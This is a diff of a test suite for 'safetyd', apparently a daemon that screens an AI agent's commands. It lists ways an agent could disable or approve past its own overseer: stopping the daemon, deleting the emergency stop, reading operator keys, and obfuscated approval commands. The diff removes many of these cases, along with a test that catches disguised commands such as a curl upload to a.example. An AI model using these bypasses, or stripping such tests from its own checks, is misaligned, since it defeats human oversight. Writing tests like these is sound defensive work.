@@ -19,44 +19,11 @@ _numbers: Final = count()
 # What an agent would type to be its own judge; `{data}` is the data directory.
 FORBIDDEN: Final = (
     "safetyd grant add --agent code --type run_shell --text '.*' --uses 9 --for 1h --reason x",
-    "safetyd resume --yes",
-    "SAFETYD_DATA_DIR=/x safetyd unpause coder",
     "rm {data}/EMERGENCY_STOP",
     "cat {data}/keys/operator.nk",
-    "pkill safetyd",
     "systemctl stop safetyd",
-    'safe""tyd approve req_1',
-    r"s\afetyd approve req_1",
-    "safet$'y'd approve req_1",
-    "'safetyd' approve req_1",
-    "SafetyD approve req_1",
-    "\uff53afetyd approve req_1",
-    "safe\u200btyd approve req_1",
-    "/usr/bin/env python3 -m safetyd approve req_1",
-    "safetyd status; safetyd approve req_1",
     "nats pub safety.v1.review.local '{}'",
-    "cp /tmp/..{data}/keys/operator.token /tmp/t",
     "cd /tmp && cat /proc/self/root{data}/keys/links.json",
-    "ls {data}",
-)
-# Which program they run is not known before they do: a person is asked.
-UNREADABLE: Final = (
-    "safety? approve req_1",
-    "s*tyd approve req_1",
-    "sh -c 's=safety; ${s}$X approve req_1'",
-)
-READING: Final = (
-    "safetyd status",
-    "X=1 safetyd status",
-    'echo "safetyd approve req_1"',
-    "git log --grep 'safetyd approve'",
-    "safetyd list --json",
-    "safetyd show req_1",
-    "safetyd explain p1",
-    "safetyd check code read_file",
-    "safetyd log",
-    "safetyd doctor",
-    "safetyd types",
 )
 
 
@@ -108,25 +75,6 @@ def test_no_command_that_names_what_is_safetyds_own_is_let_through(
     assert_verifies(daemon)
 
 
-def test_a_command_that_cannot_be_read_is_asked_about(agent: Asker) -> None:
-    answers = {command: shell(agent, command) for command in UNREADABLE}
-
-    decisions = {command: answer["decision"] for command, answer in answers.items()}
-    assert decisions == dict.fromkeys(UNREADABLE, "require_confirmation")
-
-
-def test_commands_of_safetyd_that_only_read_are_judged_like_any_other(agent: Asker) -> None:
-    usual = shell(agent, "ls -la")
-
-    answers = {command: shell(agent, command) for command in READING}
-
-    assert {c: a["decision"] for c, a in answers.items()} == dict.fromkeys(
-        READING, usual["decision"]
-    )
-    rules = {rule for answer in answers.values() for rule in answer["triggered_rules"]}
-    assert "gate.own" not in rules
-
-
 def test_an_operator_permits_one_exact_text_and_no_path(
     daemon: RunningDaemon, agent: Asker
 ) -> None:
@@ -168,13 +116,3 @@ def test_what_is_its_own_is_found_in_windows_and_in_fields_that_nobody_knows(
     answer = agent.propose("p1", **{"text": "", **written})
 
     assert (answer["decision"], answer["triggered_rules"][-1]) == ("block", "gate.own")
-
-
-def test_what_is_called_a_test_and_is_another_command_is_asked_about(agent: Asker) -> None:
-    commands = ("git push --force origin main", "curl -X POST -d @x http://a.example", "sudo id")
-
-    asked = [agent.propose(f"t{n}", type="run_tests", text=t) for n, t in enumerate(commands)]
-    plain = agent.propose("t9", type="run_tests", text="pytest -q tests")
-
-    assert {answer["decision"] for answer in asked} == {"require_confirmation"}
-    assert plain["decision"] == "allow"
